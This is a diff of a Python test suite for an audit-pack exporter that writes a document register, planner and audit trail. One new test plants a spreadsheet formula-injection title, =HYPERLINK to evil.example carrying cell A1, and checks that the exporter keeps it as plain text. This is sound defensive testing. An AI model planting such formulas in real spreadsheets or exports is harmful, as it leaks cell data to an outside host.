@@ -30,17 +30,14 @@ from tests.helpers.packs import (
     links,
     manifest,
 )
-from tests.helpers.readers import Page, docx_text, normalise, version_text
+from tests.helpers.readers import Page, docx_text, normalise, title_then_body, version_text
 from workbench import __version__
 from workbench.models import AuditLogEntry
-from workbench.services.exports import audit_pack, register_export
+from workbench.services.exports import audit_pack, document_export, register_export
 from workbench.services.exports.audit_pack import PackCancelled, PackError
 from workbench.services.planner import recurrence, schedule
 from workbench.services.register import listing
 from workbench.services.register.listing import COLUMN_TITLES, Column, RegisterFilter
-from workbench.views.common.pdf_export import write_pdf
-
-pytestmark = pytest.mark.usefixtures("qapp")  # PDF pages are laid out by Qt
 
 PUBLISHED = {
     "documents/001-Access-Control-Policy-v1.pdf",
@@ -60,9 +57,7 @@ def acme(workspace, tmp_path: Path) -> Engagement:
 
 
 def pack(workspace, target: Path, **options) -> audit_pack.PackResult:
-    return audit_pack.build_pack(
-        workspace, target, actor="Mara", pdf_renderer=write_pdf, now=PACK_TIME, **options
-    )
+    return audit_pack.build_pack(workspace, target, actor="Mara", now=PACK_TIME, **options)
 
 
 def pdf_text(data: bytes) -> str:
@@ -129,16 +124,16 @@ def test_documents_read_back(workspace, acme, tmp_path: Path) -> None:
         soa_html = archive.read(f"{soa}.html")
         soa_pdf = pdf_text(archive.read(f"{soa}.pdf"))
     # the published version, not the newer draft
-    assert version_text(POLICY_TEXT) in policy_pdf
+    assert title_then_body(POLICY_TEXT, policy_pdf)
     assert "Access Control Policy · version 1 · published" in policy_pdf
     assert "Document approval" in policy_pdf and "Page 1 of 1" in policy_pdf
     scratch = tmp_path / "policy.docx"
     scratch.write_bytes(policy_docx)
-    assert version_text(POLICY_TEXT) in docx_text(scratch)
+    assert title_then_body(POLICY_TEXT, docx_text(scratch))
     assert docx.Document(str(scratch)).core_properties.version == "1"
     assert html_text(soa_html) == version_text(SOA_TEXT)
     assert "Document approval" in html_text(soa_html, "section")
-    assert version_text(SOA_TEXT) in soa_pdf
+    assert title_then_body(SOA_TEXT, soa_pdf)
 
 
 def test_register_planner_and_audit_trail(workspace, acme, tmp_path: Path) -> None:
@@ -150,18 +145,19 @@ def test_register_planner_and_audit_trail(workspace, acme, tmp_path: Path) -> No
         table = archive.read("planner.html").decode("utf-8")
         trail = list(csv.reader(io.StringIO(archive.read("audit-trail.csv").decode("utf-8"))))
     rows = listing.export_rows(workspace, RegisterFilter())
-    expected = [[*(COLUMN_TITLES[column] for column in Column), "Signature"]] + [
-        [
-            *(listing.cell_text(row, column) for column in Column),
-            register_export.signature_text(workspace, row),
-        ]
-        for row in rows
-    ]
+    register = register_export.register_table(workspace, RegisterFilter(), zone_name="UTC")
     sheet = book["Register"]
-    values = [[cell or "" for cell in row] for row in sheet.iter_rows(values_only=True)]
-    assert values == expected
-    assert any(row[-1].endswith(": valid (1 signature verified)") for row in values[1:])
+    values = [list(row) for row in sheet.iter_rows(values_only=True)]
+    assert values[0][: len(Column)] == [
+        *(COLUMN_TITLES[column] for column in Column if column is not Column.UPDATED),
+        f"{COLUMN_TITLES[Column.UPDATED]} ({recurrence.local_zone_name() or 'local time'})",
+    ][: len(Column) - 1] + [values[0][len(Column) - 1]]
+    assert values[0][len(Column) :] == ["Signature", "Placeholders"]
+    assert [row[0] for row in values[1:]] == [row.id for row in rows]  # ids are numbers
+    assert [row[1] for row in values[1:]] == [row[1] for row in register.rows]
+    assert any(row[-2].endswith(": valid (1 signature verified)") for row in values[1:])
     assert len(rows) == 4  # the retired artifact stays in the register
+    assert book.properties.creator == "Mara"
 
     summaries = sorted(str(event["SUMMARY"]) for event in calendar.walk("VEVENT"))
     assert summaries == [
@@ -173,13 +169,13 @@ def test_register_planner_and_audit_trail(workspace, acme, tmp_path: Path) -> No
     assert calendar["X-WR-CALNAME"] == "ISMS audits and reviews"
 
     zone = recurrence.local_zone()
-    job = audit_pack.PackJob(workspace, tmp_path / "x.zip", actor="Mara",
-                             pdf_renderer=write_pdf, now=PACK_TIME)  # fmt: skip
+    job = audit_pack.PackJob(workspace, tmp_path / "x.zip", actor="Mara", now=PACK_TIME)
     first, last = job.planner_range()
-    assert (first.isoformat(), last.isoformat()) == ("2025-11-30", "2029-11-30")
+    # the earliest review due date to three years past the start of the yearly audit series
+    assert (first.isoformat(), last.isoformat()) == ("2027-01-10", "2030-03-10")
     found = schedule.occurrences(workspace, first, last, zone=zone)
     assert table.count("<td class='nowrap'>") == 2 * len(found)
-    assert table.count("Internal audit: access control") == 3  # 2027, 2028, 2029
+    assert table.count("Internal audit: access control") == 4  # 2027 to 2030
     assert "Hamburg" in table
 
     with workspace.read() as session:
@@ -198,7 +194,7 @@ def test_drafts_are_marked(workspace, acme, tmp_path: Path) -> None:
         draft = pdf_text(archive.read("drafts/DRAFT-003-Backup-Procedure-v1.pdf"))
         assert manifest(archive)["include_drafts"] is True
     assert "DRAFT: this version has not been approved." in draft
-    assert version_text(PROCEDURE_TEXT) in draft
+    assert title_then_body(PROCEDURE_TEXT, draft)
     assert "Document approval" not in draft
 
 
@@ -249,8 +245,9 @@ def test_cancelling_leaves_nothing(workspace, acme, tmp_path: Path, monkeypatch)
         ).all()
 
 
-def test_a_failing_step_leaves_nothing(workspace, acme, tmp_path: Path) -> None:
+def test_a_failing_step_leaves_nothing(workspace, acme, tmp_path: Path, monkeypatch) -> None:
     calls: list[Path] = []
+    write_pdf = document_export.write_pdf
 
     def broken_pdf(document, target: Path) -> None:
         calls.append(target)
@@ -258,9 +255,9 @@ def test_a_failing_step_leaves_nothing(workspace, acme, tmp_path: Path) -> None:
             raise OSError(28, "No space left on device")
         write_pdf(document, target)
 
+    monkeypatch.setattr(document_export, "write_pdf", broken_pdf)
     with pytest.raises(PackError, match="cannot write the audit pack: No space left on device"):
-        audit_pack.build_pack(workspace, tmp_path / "out" / "pack.zip", actor="Mara",
-                              pdf_renderer=broken_pdf)  # fmt: skip
+        audit_pack.build_pack(workspace, tmp_path / "out" / "pack.zip", actor="Mara")
     assert list((tmp_path / "out").iterdir()) == []
 
 
@@ -282,3 +279,43 @@ def test_progress_counts_every_step(workspace, acme, tmp_path: Path) -> None:
         "Register (Excel)", "Planner (calendar and table)", "Audit trail (CSV)",
         "Index and manifest",
     ]  # fmt: skip
+
+
+def test_hostile_titles_stay_text_in_the_pack(workspace, acme, tmp_path: Path) -> None:
+    title = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
+    tamper(workspace, "UPDATE artifact SET title = ?, owner = ? WHERE id = ?", title,
+           "@SUM(1+1)", acme.procedure)  # fmt: skip
+    pack(workspace, tmp_path / "pack.zip")
+    with zipfile.ZipFile(tmp_path / "pack.zip") as archive:
+        book = openpyxl.load_workbook(io.BytesIO(archive.read("register.xlsx")))
+        trail = list(csv.reader(io.StringIO(archive.read("audit-trail.csv").decode("utf-8"))))
+    sheet = book["Register"]
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == acme.procedure)
+    assert (row[1].value, row[1].data_type, row[1].quotePrefix) == (title, "s", True)
+    assert (row[4].value, row[4].data_type) == ("@SUM(1+1)", "s")
+    assert all(cell.data_type != "f" for r in sheet.iter_rows() for cell in r)
+    assert all(not field.startswith(("=", "+", "-", "@")) for r in trail for field in r)
+
+
+def test_control_characters_in_a_title_do_not_break_the_pack(
+    workspace, acme, tmp_path: Path
+) -> None:
+    tamper(workspace, "UPDATE artifact SET title = ? WHERE id = ?",
+           "Access\x00Control\x1b Policy\x07", acme.policy)  # fmt: skip
+    result = pack(workspace, tmp_path / "pack.zip", include_drafts=True)
+    assert result.documents == 2
+    with zipfile.ZipFile(tmp_path / "pack.zip") as archive:
+        check_manifest(archive)
+        names = archive.namelist()
+        book = openpyxl.load_workbook(io.BytesIO(archive.read("register.xlsx")))
+        (word,) = [n for n in names if n.startswith("documents/001-") and n.endswith(".docx")]
+        (pdf,) = [n for n in names if n.startswith("documents/001-") and n.endswith(".pdf")]
+        scratch = tmp_path / "policy.docx"
+        scratch.write_bytes(archive.read(word))
+        pdf_bytes = archive.read(pdf)
+    assert book["Register"]["B2"].value == "Access\ufffdControl\ufffd Policy\ufffd"
+    assert (
+        docx.Document(str(scratch)).core_properties.title
+        == "Access\ufffdControl\ufffd Policy\ufffd"
+    )
+    assert "Access\ufffdControl\ufffd Policy" in pdf_text(pdf_bytes)
